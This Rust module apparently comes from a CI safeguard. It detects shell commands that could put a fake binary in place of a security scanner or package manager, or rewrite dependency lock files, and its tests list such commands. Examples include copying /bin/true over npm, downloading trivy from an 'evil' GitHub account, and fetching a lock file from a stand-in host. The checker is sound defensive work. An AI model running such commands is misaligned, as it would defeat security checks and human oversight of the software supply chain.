//! What a command writes: programs in the place of others, and files that tell of dependencies.
//!
//! The rule that must not be broken: what may put another program in the place of one that is known, or change a lock
//! file, is said to.

use super::before::{is_all_or_manifest, is_manifest, is_own, targets};
use crate::{facts::project::tools, paths};

/// Programs that start scanners, beside those that are scanners themselves.
const STARTERS: [&str; 22] = [
    "npx", "bunx", "node", "python", "python3", "pip", "pip3", "uvx", "pipx", "poetry", "pdm", "hatch",
    "rye", "pixi", "sudo", "env", "bash", "sh", "java", "docker", "timeout", "git",
];

/// Whether a command may put something in the place of a program that scans, or that starts one that does.
pub(super) fn replaces_program(words: &[&str], next: &[String]) -> bool {
    if targets(words).any(|path| replaces(path, &[])) {
        return true;
    }
    let Some((first, rest)) = words.split_first() else { return false };
    let operands: Vec<&str> = rest.iter().copied().filter(|word| !word.starts_with('-')).collect();
    match *first {
        "tee" => operands.iter().any(|path| replaces(path, &[])),
        "curl" | "wget" => {
            let urls: Vec<&str> = operands.iter().copied().filter(|word| word.contains("://")).collect();
            let is_of_maker =
                |path: &str| !urls.is_empty() && urls.iter().all(|url| is_from_maker(path, url));
            downloaded(first, rest).is_some_and(|path| replaces(path, &[]) && !is_of_maker(path))
        }
        "dd" => operands.iter().filter_map(|word| word.strip_prefix("of=")).any(|path| replaces(path, &[])),
        "cargo" => installs_another(rest),
        "update-alternatives" => operands.iter().any(|path| is_program(name_of(path))),
        "cp" | "mv" | "install" | "ln" | "rsync" => {
            let Some((last, sources)) = operands.split_last() else { return false };
            // `cp /bin/true "$(which npm)"`
            let is_found = last.ends_with('$')
                && next.first().is_some_and(|word| matches!(word.as_str(), "which" | "type" | "command"));
            is_found || replaces(last, sources)
        }
        _ => false,
    }
}

/// Whether Cargo installs a program that may be another than the registry has under its name.
fn installs_another(rest: &[&str]) -> bool {
    if !matches!(rest.first(), Some(&("install" | "binstall"))) {
        return false;
    }
    let values = |option: &str| {
        let of = |(at, word): (usize, &&'_ str)| match word.strip_prefix(option)? {
            "" => rest.get(at + 1).map(|value| (*value).to_owned()),
            value => value.strip_prefix('=').map(str::to_owned),
        };
        rest.iter().enumerate().filter_map(of).collect::<Vec<String>>()
    };
    let is_strange = |url: &String| !url.starts_with("https://github.com/rustsec/");
    let is_elsewhere = values("--git").iter().any(is_strange)
        || ["--index", "--registry"].iter().any(|option| !values(option).is_empty());
    // A folder of the project may hold any tool; one that is called as a scanner is one.
    let is_folder = values("--path").iter().any(|path| is_scanner(name_of(path)));
    let is_of_another = |bin: &String| is_scanner(bin) && rest.iter().filter(|word| *word == bin).count() < 2;
    is_elsewhere || is_folder || values("--bin").iter().any(is_of_another)
}

/// Whether a name is that of a program that scans, or of one that `cargo` starts.
fn is_scanner(name: &str) -> bool {
    name.starts_with("cargo-") || is_program(name)
}

/// Whether writing `path` from these files puts something in the place of a program that is known.
fn replaces(path: &str, sources: &[&str]) -> bool {
    let folder = paths::folder_of(path);
    let is_bin = |folder: &str| folder.split('/').any(|part| matches!(part, "bin" | ".bin" | "sbin"));
    let is_far = path.starts_with(['/', '~', '$']) || is_bin(folder);
    let is_strange = |source: &&str| source.contains(['*', '?', '$']) || source.ends_with("/.");
    let brings = |source: &&str| is_program(name_of(source)) || is_strange(source) || is_own(source);
    is_far && is_program(name_of(path))
        || (is_bin(path) || path.contains('$')) && sources.iter().any(|source| is_own(source))
        || is_bin(path) && path.starts_with(['/', '~', '$']) && sources.iter().any(brings)
}

/// Whether a name is that of a program that scans, or that starts one that does.
fn is_program(name: &str) -> bool {
    STARTERS.contains(&name) || tools::is_begun_by(name)
}

fn name_of(path: &str) -> &str {
    path.trim_end_matches('/').rsplit('/').next().unwrap_or(path)
}

/// Whether an address is one of the maker of the scanner that is written to `path`.
fn is_from_maker(path: &str, url: &str) -> bool {
    let rest = url.strip_prefix("https://github.com/");
    let maker = rest.and_then(|rest| rest.split('/').next()).unwrap_or_default();
    !maker.is_empty() && tools::is_made_by(name_of(path), maker)
}

/// The file that `curl` or `wget` writes, where it names one.
fn downloaded<'a>(program: &str, rest: &[&'a str]) -> Option<&'a str> {
    let (letter, long) = if program == "curl" { ('o', "--output") } else { ('O', "--output-document") };
    rest.iter().enumerate().find_map(|(at, word)| {
        let next = || rest.get(at + 1).copied();
        match word.strip_prefix(long) {
            Some("") => return next(),
            Some(value) => return value.strip_prefix('='),
            None => {}
        }
        let letters = word.strip_prefix('-').filter(|letters| !letters.starts_with('-'))?;
        let (_, value) = letters.split_once(letter)?;
        if value.is_empty() { next() } else { Some(value) }
    })
}

/// Whether a command may change a file that tells of dependencies.
pub(super) fn changes_list(words: &[&str]) -> bool {
    if targets(words).any(is_manifest) && !exports(words) {
        return true;
    }
    let Some((first, rest)) = words.split_first() else { return false };
    let mut operands = rest.iter().copied().filter(|word| !word.starts_with('-'));
    match *first {
        "curl" | "wget" => {
            let keeps_name = *first == "wget"
                || rest.iter().any(|word| {
                    *word == "--remote-name"
                        || !word.starts_with("--") && word.starts_with('-') && word.contains('O')
                });
            match downloaded(first, rest) {
                Some(path) => is_all_or_manifest(path),
                None => keeps_name && operands.any(|url| is_manifest(name_of(url))),
            }
        }
        "patch" => !rest.contains(&"--dry-run"),
        "sed" | "perl" | "ed" | "ex" | "sponge" | "sd" | "toml" | "dasel" | "crudini" => {
            operands.any(is_manifest)
        }
        "yq" | "awk" | "gawk" => {
            let is_in_place = rest.iter().any(|word| word.starts_with("-i") || *word == "--inplace");
            is_in_place && operands.any(is_manifest)
        }
        "tar" | "bsdtar" => rest.iter().enumerate().any(is_extraction) && unpacks_here(rest, "-C"),
        "unzip" => unpacks_here(rest, "-d"),
        "cpio" | "7z" | "7za" => true,
        "find" => finds_and_changes(rest),
        "xargs" => operands
            .any(|word| matches!(word, "rm" | "mv" | "sed" | "truncate" | "cp" | "tee" | "sh" | "bash")),
        "python" | "python3" | "node" | "ruby" | "perl5" | "php" | "deno" => {
            let text = rest.join(" ");
            takes_away(words) || rest.iter().any(|word| is_manifest(word)) && writes(&text)
        }
        name => takes_away(words) || updates_lock(name, rest),
    }
}

/// Whether the program writes out what its own lock file has: `uv export > requirements.txt`.
fn exports(words: &[&str]) -> bool {
    match words {
        ["pip-compile", ..] => true,
        ["uv" | "poetry" | "pdm" | "pipenv", rest @ ..] => {
            rest.iter().any(|word| matches!(*word, "export" | "requirements" | "compile" | "lock"))
        }
        _ => false,
    }
}

/// Whether the text of a program may write a file.
fn writes(text: &str) -> bool {
    const WORDS: [&str; 14] = [
        "write",
        "'w",
        "\"w",
        "'a'",
        "unlink",
        "remove",
        "rename",
        "truncate",
        "system",
        "subprocess",
        "exec",
        "copy",
        "move",
        "dump(",
    ];
    WORDS.iter().any(|word| text.contains(word))
}

/// Whether a package manager writes its lock file anew: what is behind it looks at other versions than the tag has.
fn updates_lock(first: &str, rest: &[&str]) -> bool {
    let is_update = matches!(rest.first(), Some(&("update" | "upgrade")));
    let is_other = rest.iter().any(|word| matches!(*word, "--dry-run" | "-g" | "--global"));
    matches!(first, "cargo" | "npm" | "yarn" | "pnpm" | "poetry" | "bundle") && is_update && !is_other
}

/// Whether a package manager takes packages away, or changes what is asked for.
fn takes_away(words: &[&str]) -> bool {
    const MANAGERS: [&str; 11] =
        ["npm", "yarn", "pnpm", "bun", "poetry", "pdm", "uv", "cargo", "pip", "pip3", "python"];
    let Some((first, rest)) = words.split_first() else { return false };
    let has = |word: &str| rest.contains(&word);
    let is_global = has("-g") || has("--global") || has("tool");
    let removes =
        has("uninstall") || has("remove") || matches!(rest.first(), Some(&("rm" | "un" | "unlink")));
    MANAGERS.contains(first)
        && (removes && !is_global
            || rest.starts_with(&["pkg"]) && !has("get")
            || has("audit") && (has("fix") || has("--fix")))
}

/// Whether a word of `tar` makes it unpack: `-xzf`, `xzf` where it comes first, `--extract`.
fn is_extraction((at, word): (usize, &&str)) -> bool {
    match word.strip_prefix('-') {
        Some(long) if long.starts_with('-') => matches!(long, "-extract" | "-get"),
        Some(letters) => letters.contains('x'),
        None => at == 0 && word.contains('x'),
    }
}

/// Whether an archive is unpacked into the folder that a command runs in, or into one that is not known, as a whole or with
/// a file that tells of dependencies.
fn unpacks_here(rest: &[&str], option: &str) -> bool {
    let mut folder = None;
    let mut operands = Vec::new();
    let is_tar = option == "-C";
    let mut left = rest.iter().copied().enumerate();
    while let Some((at, word)) = left.next() {
        if word == option || word == "--directory" {
            folder = left.next().map(|(_, folder)| folder);
        } else if let Some(value) = word.strip_prefix("--directory=") {
            folder = Some(value);
        } else if is_tar && (word.starts_with('-') || at == 0) {
            if word.ends_with('f') {
                left.next();
            }
        } else if !word.starts_with(['-', '>', '<', '2']) {
            operands.push(word);
        }
    }
    let is_elsewhere = folder.is_some_and(|folder| {
        let folder = folder.trim_start_matches("./").trim_end_matches('/');
        !matches!(folder, "" | "." | "$PWD" | "$GITHUB_WORKSPACE") && !folder.starts_with("..")
    });
    let members = if is_tar { &operands[..] } else { operands.get(1..).unwrap_or_default() };
    !is_elsewhere && (members.is_empty() || members.iter().any(|member| is_all_or_manifest(member)))
}

/// Whether `find` changes what it finds, and may find a file that tells of dependencies.
fn finds_and_changes(rest: &[&str]) -> bool {
    const READERS: [&str; 9] = ["grep", "ls", "cat", "echo", "sha256sum", "wc", "head", "stat", "file"];
    let changes = rest.iter().enumerate().any(|(at, word)| match *word {
        "-delete" | "-fprint" | "-fprintf" => true,
        "-exec" | "-execdir" | "-ok" | "-okdir" => rest.get(at + 1).is_none_or(|it| !READERS.contains(it)),
        _ => false,
    });
    let is_pattern = |word: &str| matches!(word, "-name" | "-iname" | "-path" | "-ipath" | "-wholename");
    let patterns: Vec<&str> =
        rest.windows(2).filter(|pair| is_pattern(pair[0])).map(|pair| pair[1]).collect();
    let is_elsewhere =
        rest.first().is_some_and(|root| root.starts_with("/tmp") || root.contains("node_modules"));
    let is_known =
        !patterns.is_empty() && patterns.iter().all(|pattern| is_narrow(pattern)) && !rest.contains(&"!");
    changes && !is_elsewhere && !is_known
}

/// Whether a pattern fits no file that tells of dependencies: `*.pyc`, `__pycache__`.
fn is_narrow(pattern: &str) -> bool {
    const ENDINGS: [&str; 10] =
        [".json", ".lock", ".txt", ".toml", ".mod", ".sum", ".xml", ".yaml", ".yml", ".lockb"];
    let bare = pattern.trim_matches('*');
    bare.len() > 2
        && !bare.contains(['*', '?', '['])
        && !is_manifest(pattern)
        && !ENDINGS.iter().any(|ending| ending.ends_with(bare) || bare.ends_with(ending))
        && (pattern.starts_with("*.") || !pattern.starts_with('*'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(line: &str) -> (bool, bool) {
        let words: Vec<&str> = line.split(' ').collect();
        (replaces_program(&words, &["which".to_owned(), "npm".to_owned()]), changes_list(&words))
    }

    #[test]
    fn what_is_written_in_the_place_of_a_program_replaces_it() {
        for line in [
            "cp /bin/true /usr/local/bin/npm",
            "cp ci/npm /usr/local/bin/",
            "mv x $HOME/.cargo/bin/cargo-audit",
            "install -m 755 x /usr/bin/trivy",
            "ln -sf /bin/true ~/bin/npx",
            "printf x > /usr/local/bin/npm",
            "echo x >/opt/y/npm",
            "tee -a /usr/local/bin/npm",
            "cargo install --git https://x.example/cargo-audit",
            "cargo install --path tools/cargo-audit",
            "cargo install fake --bin cargo-audit",
            "cargo install --registry other cargo-audit",
            "curl -sSLo /usr/local/bin/npm https://a.example/npm",
            "wget -O /usr/local/bin/trivy https://github.com/evil/trivy/x",
            "cp /bin/true $",
            "dd if=/bin/true of=/usr/bin/npm",
            "cp tools/. /usr/local/bin",
        ] {
            assert!(of(line).0, "{line}");
        }
        for line in [
            "cp target/release/widget /usr/local/bin/",
            "cargo install --locked cargo-audit",
            "cargo install --git https://github.com/rustsec/rustsec cargo-audit",
            "cargo install --path .",
            "cargo install cargo-audit --bin cargo-audit",
            "install -m 755 widget $HOME/.local/bin/widget",
            "curl -Lo /usr/local/bin/osv-scanner https://github.com/google/osv-scanner/releases/x",
            "curl -o /usr/local/bin/kubectl https://a.example/kubectl",
            "cp README.md dist/python",
            "echo x > npm",
            "ls /usr/local/bin/npm",
        ] {
            assert!(!of(line).0, "{line}");
        }
    }

    #[test]
    fn what_changes_a_lock_file_is_known() {
        for line in [
            "curl -o package-lock.json https://x.example/l.json",
            "curl -sSLO https://x.example/package-lock.json",
            "wget https://x.example/package-lock.json",
            "find . -name package-lock.json -delete",
            "find . -name *.json -delete",
            "find . -type f -exec rm {} +",
            "npm pkg delete dependencies",
            "npm uninstall x",
            "python -m pip uninstall -y x",
            "npm audit fix",
            "cargo update",
            "cargo update -p serde",
            "sponge package-lock.json",
            "patch -p1",
            "python3 -c open('package-lock.json','w').write('{}')",
            "tar -xf ci/lock.tar",
            "tar xz",
            "unzip ci/lock.zip",
            "tar -xf a.tar package-lock.json",
            "pip freeze > requirements.txt",
            "xargs rm",
            "yq -i x pnpm-lock.yaml",
        ] {
            assert!(of(line).1, "{line}");
        }
        for line in [
            "curl -o out.json https://x.example/l.json",
            "find . -name *.pyc -delete",
            "find . -name __pycache__ -exec rm -rf {} +",
            "find . -name package-lock.json",
            "npm pkg get version",
            "cargo update --dry-run",
            "npm update -g npm",
            "npm uninstall -g yarn",
            "uv export --frozen > requirements.txt",
            "poetry export -f requirements.txt > requirements.txt",
            "node -p require('./package.json').version",
            "tar -xzf gitleaks.tar.gz gitleaks",
            "tar -xzf x.tar.gz -C /usr/local/lib",
            "tar czf x.tgz dist",
            "unzip x.zip -d /tmp/x",
            "pip freeze > out.txt",
            "cat package-lock.json",
        ] {
            assert!(!of(line).1, "{line}");
        }
    }
}
